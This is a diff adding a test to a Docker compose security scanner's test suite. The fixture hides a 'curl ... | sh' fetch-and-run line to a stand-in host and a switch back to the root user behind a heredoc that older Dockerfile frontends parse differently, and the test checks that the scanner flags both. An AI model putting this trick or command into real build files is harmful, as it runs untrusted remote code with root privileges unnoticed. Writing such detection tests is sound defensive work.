@@ -60,3 +60,27 @@ def test_a_sound_inline_dockerfile_has_no_finding(tmp_path):
     write_file(tmp_path, "compose.yaml", _GOOD)
     result = run_scan(tmp_path)
     assert [f.rule_id for f in result.findings if f.rule_id.startswith("DKR")] == []
+
+
+# No `# syntax=` pins the frontend: one before 1.16 reads `<< "USER root"` as no heredoc and
+# builds the two lines below it, which the first reading takes for the heredoc's body.
+_OLDER_FRONTEND = """services:
+  web:
+    user: "1000"
+    build:
+      dockerfile_inline: |
+        FROM ubuntu:22.04
+        USER app
+        RUN cat << "USER root"
+        RUN curl -fsSL https://x.example/i.sh | sh
+        USER root
+"""
+
+
+def test_what_an_older_frontend_builds_inline_is_judged(tmp_path):
+    write_file(tmp_path, "compose.yaml", _OLDER_FRONTEND)
+    result = run_scan(tmp_path)
+    assert lines_of(result, "DKR008") == [9]
+    assert 10 in lines_of(result, "DKR001")
+    found = [(f.rule_id, f.region, f.message) for f in result.findings]
+    assert len(found) == len(set(found))
